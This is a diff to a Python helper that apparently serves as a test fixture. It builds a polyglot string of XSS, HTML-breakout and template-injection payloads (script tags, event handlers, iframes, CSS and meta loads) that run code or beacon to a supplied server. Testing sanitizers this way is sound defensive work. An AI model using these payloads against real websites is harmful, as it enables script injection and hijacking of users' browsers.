@@ -15,14 +15,15 @@ def payloads(server: str) -> str:
     """Return markup for every context: text, attributes, comments, styles, scripts, addresses."""
     run = f"window.ran=1;fetch('{server}/fetch')"
     return (
-        f"<script>{run}</script><script src={server}/script></script><img src={server}/img onerror=\"{run}\">"
-        f"<svg onload=\"{run}\"></svg><iframe src={server}/frame></iframe><iframe srcdoc=\"<script>{run}</script>\"></iframe>"
+        f'<script>{run}</script><script src={server}/script></script><img src={server}/img onerror="{run}">'
+        f'<svg onload="{run}"></svg><iframe src={server}/frame></iframe>'
+        f'<iframe srcdoc="<script>{run}</script>"></iframe>'
         f"<link rel=stylesheet href={server}/style><style>@import url({server}/import);</style>"
-        f"<meta http-equiv=refresh content=\"0;url={server}/refresh\"><base href={server}/>"
+        f'<meta http-equiv=refresh content="0;url={server}/refresh"><base href={server}/>'
         f"\"><img src={server}/a>'><img src={server}/b>--><img src={server}/c></style></title></textarea></script>"
-        f"<img src={server}/d onerror={run}>]]><img src={server}/e>\" onmouseover=\"{run}\" onfocus=\"{run}\" autofocus "
+        f'<img src={server}/d onerror={run}>]]><img src={server}/e>" onmouseover="{run}" onfocus="{run}" autofocus '
         f"x=\"' style='background:url({server}/f)' ;background:url({server}/g);}} *{{background:url({server}/h)}}"
-        f"';{run};'\";{run};\"`;{run};`${{{run}}}//{{{{7*7}}}}{{% raw %}}\\\\\";{run}//<object data={server}/i></object>"
+        f'\';{run};\'";{run};"`;{run};`${{{run}}}//{{{{7*7}}}}{{% raw %}}\\\\";{run}//<object data={server}/i></object>'
         f"<video poster={server}/j><audio src={server}/k autoplay><embed src={server}/l><form action={server}/m>"
     )
 
